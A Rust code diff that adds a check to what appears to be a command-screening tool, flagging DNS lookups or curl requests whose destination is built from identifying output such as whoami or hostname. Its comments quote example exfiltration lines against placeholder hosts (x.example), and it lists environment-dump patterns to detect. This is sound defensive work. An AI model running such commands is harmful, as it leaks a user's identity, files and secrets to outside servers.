@@ -72,7 +72,8 @@ pub(super) fn judge(call: &Call) -> Option<Hit> {
             .via
             .iter()
             .any(|via| via.split_whitespace().next().is_some_and(|w| NETWORK_CLIENTS.contains(&w)));
-    if !sent {
+    let resolver = matches!(name, "nslookup" | "dig" | "host" | "drill" | "ping" | "traceroute");
+    if !sent && !resolver {
         return None;
     }
     let piped = super::credentials::carries_environment(call.analysis, command);
@@ -81,6 +82,9 @@ pub(super) fn judge(call: &Call) -> Option<Hit> {
     let uploaded = || super::credentials::reads_environment_file(call);
     if piped || substituted || uploaded() {
         return Some(Hit::new("exfiltration.environment", MESSAGE));
+    }
+    if call.args().iter().any(|a| a.dynamic) && builds_destination(name, call.args()) {
+        return Some(Hit::ask("exfiltration.computed-destination", COMPUTED_DESTINATION));
     }
     if sends_clipboard(call) {
         return Some(Hit::ask("exfiltration.clipboard", CLIPBOARD));
@@ -358,6 +362,56 @@ fn redirects_git(command: &SimpleCommand) -> bool {
 
 /// `$(env)`, `` `printenv` ``, `$(cat /proc/self/environ)` inside a word, and a dump piped
 /// through filters inside it (`$(env | gzip | base64 -w0)`).
+const COMPUTED_DESTINATION: &str = "The host name or URL this contacts is built from what the machine says about itself (the user, the host name, a file): looking it up or fetching it sends that text to whoever runs the name server or site. Write the name out, or ask the user.";
+
+/// Commands whose output names this machine, its user or a file's contents.
+const IDENTIFYING: &[&str] =
+    &["whoami", "hostname", "id", "uname", "cat", "head", "tail", "base64", "xxd", "od", "hexdump"];
+
+/// `nslookup $(whoami).x.example`, `curl x.example/$(hostname)`: an operand (not a header,
+/// an output file or a field) where a substitution of an [`IDENTIFYING`] command is part of the name
+/// or URL. A lookup carries its name to the zone's server as DNS exfiltration does.
+#[inline(never)] // off an allowed call's path (ARCHITECTURE.md, "Start-up")
+fn builds_destination(name: &str, args: &[Word]) -> bool {
+    // A header, an output file or a field of the body is not where the request goes.
+    const NOT_DESTINATIONS: &[&str] = &[
+        "-H",
+        "--header",
+        "-o",
+        "--output",
+        "-u",
+        "--user",
+        "-b",
+        "--cookie",
+        "-f",
+        "-F",
+        "--field",
+        "--raw-field",
+        "-d",
+        "--data",
+        "--data-raw",
+        "--data-binary",
+        "--data-urlencode",
+    ];
+    args.iter().enumerate().any(|(i, arg)| {
+        let after_value_option = i > 0 && NOT_DESTINATIONS.contains(&args[i - 1].text.as_str());
+        let destination = !arg.raw.starts_with('-') && !after_value_option
+            || name == "curl" && arg.raw.starts_with("--url=");
+        arg.dynamic && destination && substitutes(&arg.raw, IDENTIFYING)
+    })
+}
+
+/// Whether `raw` holds a `$(…)` or backquoted substitution whose first word is one of `programs`.
+fn substitutes(raw: &str, programs: &[&str]) -> bool {
+    let starts =
+        raw.match_indices("$(").map(|(at, _)| at + 2).chain(raw.match_indices('`').map(|(at, _)| at + 1));
+    starts.into_iter().any(|at| {
+        let inner = raw[at..].trim_start();
+        let word = inner.split(|c: char| c.is_whitespace() || matches!(c, ')' | '`' | '|' | ';')).next();
+        word.is_some_and(|word| programs.contains(&word.rsplit('/').next().unwrap_or(word)))
+    })
+}
+
 fn substitutes_environment(raw: &str) -> bool {
     let compact: String = raw.split_whitespace().collect::<Vec<_>>().join(" ");
     if ["$(env)", "$(printenv)", "`env`", "`printenv`", "$(export -p)", "$(set)", "/environ"]
